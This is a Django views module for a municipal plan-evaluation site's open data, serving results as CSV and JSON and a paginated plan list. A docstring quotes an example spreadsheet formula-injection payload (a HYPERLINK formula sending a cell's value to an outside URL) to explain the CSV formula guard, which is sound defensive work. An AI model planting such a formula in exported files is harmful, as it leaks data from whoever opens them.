"""Open data views: machine-readable copies of the published figures (CC BY 4.0).

Like the pages, each is cached whole per publication with an ETag (public_page): a results file
of ten thousand rows is built once per publication, not once per request.

What the files hold and their columns live in evaluations.opendata; the licence in
reformtracker.public_pages.
"""

import csv
from functools import partial

from django.conf import settings
from django.http import HttpResponse, QueryDict
from django.utils import timezone

from evaluations import directory, published
from evaluations.boards import plan_by_slug
from evaluations.opendata import (
    ATTRIBUTION,
    RESULT_COLUMNS,
    plan_years,
    results,
    with_licence_headers,
)
from evaluations.workbooks.format import safe_text
from reformtracker import page_memo
from reformtracker.links import cached_reverse
from reformtracker.public_pages import LICENCE, licensed_json, public_page


@public_page(params=("page",))
def index(request):
    """The files, with one page of plans and their years (as many plans as the home page's
    directory shows per page). Kept per process by the rows it shows (``_index_digest``)."""
    filters = directory.read_filters(request.GET, per_page=settings.PUBLIC_HOME_PLANS_PER_PAGE)
    page = directory.page_of(filters)
    plans = list(page.object_list)
    return page_memo.render_page(
        request,
        "evaluations/open_data.html",
        partial(_index_context, page, plans),
        partial(_index_digest, page, plans),
    )


def _index_context(page, plans) -> dict:
    rows = plan_years(plans)
    return {
        "plans": [row["plan"] for row in rows],
        "rows": rows,
        "page": page,
        "max_per_page": settings.OPEN_DATA_PLANS_MAX_PER_PAGE,
        "licence": LICENCE,
        "columns": RESULT_COLUMNS,
    }


def _index_digest(page, plans) -> str:
    """A digest of every row the index shows: the publications (their fingerprint: each plan's
    years), the page of plans with their cities as read, the page's place among them, and the
    bound it names."""
    return page_memo.digest(
        published.publication_fingerprint(),
        plans,
        [p.municipality for p in plans],
        (page.number, page.paginator.count, page.paginator.per_page),
        settings.OPEN_DATA_PLANS_MAX_PER_PAGE,
    )


def _results_digest(slug: str) -> str:
    """A digest of every row a results file shows: the publications (their fingerprint; the
    rows are their snapshots) and the plan with its city as read."""
    plan = plan_by_slug(slug)
    return page_memo.digest(published.publication_fingerprint(), plan, plan.municipality)


@public_page
def results_csv(request, slug, fiscal_year):
    make = partial(_results_csv, slug, fiscal_year)
    return page_memo.respond(request, "results.csv", partial(_results_digest, slug), make)


def _results_csv(slug, fiscal_year):
    """One row per initiative; UTF-8 with BOM so Excel opens it as Japanese text.

    A download, and every text cell through the 照会票's formula guard (``safe_text``): a
    published narrative such as ``=HYPERLINK("http://…?leak="&A1)`` must not run when the file
    is opened in a spreadsheet. The JSON keeps the exact text."""
    plan, _publication, _pillars, rows = results(slug, fiscal_year)
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = (
        f'attachment; filename="{plan.slug}-{fiscal_year}-results.csv"'
    )
    response.write("\ufeff")
    writer = csv.writer(response, lineterminator="\r\n")
    writer.writerow([name for name, _ in RESULT_COLUMNS])
    for row in rows:
        writer.writerow([_csv_cell(name, row[name]) for name, _ in RESULT_COLUMNS])
    return with_licence_headers(response)


def _csv_cell(name: str, value):
    if name == "evaluated":
        return "true" if value else "false"
    return safe_text(value) if isinstance(value, str) else value


@public_page
def results_json(request, slug, fiscal_year):
    make = partial(_results_json, slug, fiscal_year)
    return page_memo.respond(request, "results.json", partial(_results_digest, slug), make)


def _results_json(slug, fiscal_year):
    plan, publication, pillars, rows = results(slug, fiscal_year)
    summary = published.summary_of(publication)
    by_pillar = published.pillar_summaries(publication)
    payload = {
        "attribution": ATTRIBUTION.format(municipality=plan.municipality.name, plan=plan.title),
        "plan": {"slug": plan.slug, "title": plan.title, "municipality": plan.municipality.name},
        "fiscal_year": fiscal_year,
        "as_of": publication.round.as_of.isoformat(),
        "published_at": timezone.localtime(publication.published_at).isoformat(),
        "summary": summary.as_dict(),
        "pillars": [
            {
                "order": p.order,
                "name": p.name,
                "tracked": p.office_tracks_items,
                "summary": by_pillar[p.pillar_id].as_dict() if p.pillar_id in by_pillar else None,
            }
            for p in sorted(pillars.values(), key=lambda p: p.order)
        ],
        "columns": [{"name": n, "description": d} for n, d in RESULT_COLUMNS],
        "results": rows,
    }
    return with_licence_headers(licensed_json(payload))


PLANS_PARAMS = (*directory.PARAMS, "per_page")


@public_page(params=PLANS_PARAMS)
def plans_json(request):
    """The plans with one summary per published 時点, oldest first: one page of them, by
    prefecture (``?prefecture=27``) and name (``?q=``), ``per_page`` up to
    OPEN_DATA_PLANS_MAX_PER_PAGE, with ``count`` and the ``next`` and ``previous`` pages' links.
    Four queries per page, whatever the number of plans (two and the publication fingerprint
    with ``PUBLIC_DATA_MEMO``)."""
    filters = directory.read_filters(
        request.GET,
        per_page=settings.OPEN_DATA_PLANS_PER_PAGE,
        max_per_page=settings.OPEN_DATA_PLANS_MAX_PER_PAGE,
    )
    if filters.problems:
        return licensed_json({"errors": filters.problems}, status=400)
    page = directory.page_of(filters)
    plans = list(page.object_list)
    # Kept per process for the rows it shows (reformtracker.page_memo), like the pages: the
    # publications (their fingerprint), the page's plans and cities.
    rows = partial(_plans_digest, page, plans)
    make = partial(_plans_json, request, filters, page, plans)
    return page_memo.respond(request, "plans.json", rows, make)


def _plans_digest(page, plans) -> str:
    return page_memo.digest(
        published.publication_fingerprint(),
        page.paginator.count,
        plans,
        [p.municipality for p in plans],
    )


def _plans_json(request, filters, page, plans):
    if published.memo_enabled():
        # Every plan's publications and summaries, read once per publication (the dashboards'
        # memo): a page of 100 plans no longer sums 30,000 published rows per request.
        state = published.published_state()
        publications = [p for plan in plans for p in state.by_plan.get(plan.pk, [])]
        summaries = state.summaries
    else:
        publications = published.current_publications(p.pk for p in plans)
        summaries = published.summaries_of(publications)
    by_plan: dict[int, list] = {p.pk: [] for p in plans}
    for publication in sorted(publications, key=lambda p: (p.round.as_of, p.published_at)):
        round_ = publication.round
        by_plan[round_.plan_id].append(
            {
                "fiscal_year": round_.fiscal_year,
                "as_of": round_.as_of.isoformat(),
                "round_kind": round_.kind,
                "published_at": timezone.localtime(publication.published_at).isoformat(),
                **summaries[publication.pk].as_dict(),
            }
        )

    def link(number: int) -> str:
        query = QueryDict(mutable=True)
        query.update(filters.query())
        if "per_page" in request.GET:
            query["per_page"] = str(filters.per_page)
        query["page"] = str(number)
        return request.build_absolute_uri(f"{request.path}?{query.urlencode()}")

    payload = {
        "count": page.paginator.count,
        "page": page.number,
        "pages": page.paginator.num_pages,
        "per_page": filters.per_page,
        "max_per_page": settings.OPEN_DATA_PLANS_MAX_PER_PAGE,
        "next": link(page.next_page_number()) if page.has_next() else None,
        "previous": link(page.previous_page_number()) if page.has_previous() else None,
        "plans": [
            {
                "slug": plan.slug,
                "title": plan.title,
                "municipality": plan.municipality.name,
                "period": {
                    "start_fiscal_year": plan.start_fiscal_year,
                    "end_fiscal_year": plan.end_fiscal_year,
                },
                "url": request.build_absolute_uri(cached_reverse("plan_detail", plan.slug)),
                "summaries": by_plan[plan.pk],
                "prefecture": {
                    "code": plan.municipality.prefecture,
                    "name": directory.prefecture_label(plan.municipality.prefecture),
                }
                if plan.municipality.prefecture
                else None,
                "local_code": plan.municipality.local_code,
            }
            for plan in plans
        ],
    }
    return licensed_json(payload)
